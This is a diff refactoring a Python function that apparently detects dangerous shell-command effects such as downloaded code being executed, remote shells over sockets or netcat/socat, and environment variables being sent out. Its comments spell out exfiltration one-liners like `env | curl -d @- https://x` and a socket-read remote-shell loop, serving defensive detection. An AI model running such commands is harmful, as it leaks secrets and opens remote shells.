@@ -135,12 +135,11 @@ def _link_effects(commands: list[Command]) -> None:
     for cmd in commands:
         fact = cmd.fact
         found: list[dict[str, Any]] = fact["effects"]
-        for e in found:
-            if e["kind"] == "exec" and e["source"] != "download" and set(cmd.code_from) & fetching:
-                e["source"] = "download"
-        via = [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
+        if fetching and set(cmd.code_from) & fetching:
+            for e in found:
+                if e["kind"] == "exec" and e["source"] != "download":
+                    e["source"] = "download"
         program = cmd.program
-        socket = any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)
         args = fact["args"]
         attached = (program == "socat" and any(_SOCKET_EXEC.match(a) for a in args)) or (
             program in _NETCATS and any(a in _NC_EXEC for a in args)
@@ -150,19 +149,38 @@ def _link_effects(commands: list[Command]) -> None:
         # whose input or output is a socket (`while read l; do $l >&5; done`): a remote shell
         stdin_shell = program in SHELLS and not fact["operands"] and "-c" not in fact["options"]
         if (
-            (socket and (is_interpreter(program) or (program == "" and fact["dynamic"])))
+            ((is_interpreter(program) or (program == "" and fact["dynamic"])) and _socket(found))
             or attached
             or (stdin_shell and set(fact["stdout_to"]) & senders)
         ):
-            found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
-        sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
-        if sending and (
-            set(cmd.stdin_from + fact.get("_inputs", [])) & printing
-            or any(e["kind"] == "read" and e["path"] in dumps for e in found)
+            found.append(effectmod.effect("exec", program, _via(fact), source="network", certainty="unknown"))
+        # (without a program that prints the environment there is nothing for the next test to find)
+        if (
+            printing
+            and _sends(found)
+            and (
+                set(cmd.stdin_from + fact.get("_inputs", [])) & printing
+                or any(e["kind"] == "read" and e["path"] in dumps for e in found)
+            )
         ):
             # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`, `env > f; curl -d @f
             # https://x`: the environment leaves
-            found.append(effectmod.effect("credential", "env", via, certainty="unknown"))
+            found.append(effectmod.effect("credential", "env", _via(fact), certainty="unknown"))
+
+
+def _via(fact: dict[str, Any]) -> list[str]:
+    """The wrappers and context a command runs through, as its effects name them."""
+    return [*fact["wrappers"], *([fact["context"]] if fact["context"] else [])]
+
+
+def _socket(found: list[dict[str, Any]]) -> bool:
+    """One of the effects reads from or writes to a socket (``/dev/tcp/...``)."""
+    return any(e["kind"] == "network" and e["path"].startswith("/dev/") for e in found)
+
+
+def _sends(found: list[dict[str, Any]]) -> bool:
+    """One of the effects sends to or tunnels through the network."""
+    return any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
 
 
 _ENV_OPTIONS = {"export": {"-p"}, "declare": {"-x", "-p"}, "typeset": {"-x", "-p"}}
